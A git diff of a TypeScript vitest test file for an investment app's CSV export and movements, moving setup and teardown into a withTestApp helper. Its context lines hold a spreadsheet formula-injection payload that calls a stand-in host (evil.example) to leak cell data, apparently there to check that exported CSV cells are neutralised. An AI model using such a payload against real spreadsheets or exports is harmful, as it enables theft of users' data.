@@ -1,6 +1,6 @@
 import { gunzipSync } from 'node:zlib';
 import { MESSAGES, type Plan } from '@vestora/shared';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { createTestClock } from '../../../test/clock.ts';
 import {
   balanceOf,
@@ -10,7 +10,7 @@ import {
   saveUsableWithdrawalAddress,
   verify,
 } from '../../../test/money.ts';
-import { ADMIN, bearer, createTestApp, login, signUpAndLogin, type TestApp } from '../../../test/test-app.ts';
+import { bearer, signUpAndLogin, type TestApp, withTestApp } from '../../../test/test-app.ts';
 import { csvCell, csvLine } from '../../lib/csv.ts';
 import { DAY_MS } from '../../lib/time.ts';
 import { payDueReturns } from '../investments/plan-payouts.ts';
@@ -20,13 +20,7 @@ import { findAvailableAccountId, listMovementsPage, sumMovementsBefore } from '.
 const clock = createTestClock(new Date('2026-03-02T09:00:00Z'));
 let t: TestApp;
 let adminToken: string;
-beforeAll(async () => {
-  t = await createTestApp({}, { clock });
-  adminToken = (await login(t.app, ADMIN.email, ADMIN.password)).token;
-});
-afterAll(async () => {
-  await t.close();
-});
+withTestApp((suite) => ({ t, adminToken } = suite), {}, { clock });
 
 const BTC_ADDRESS = 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq';
 const INJECTED_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")';
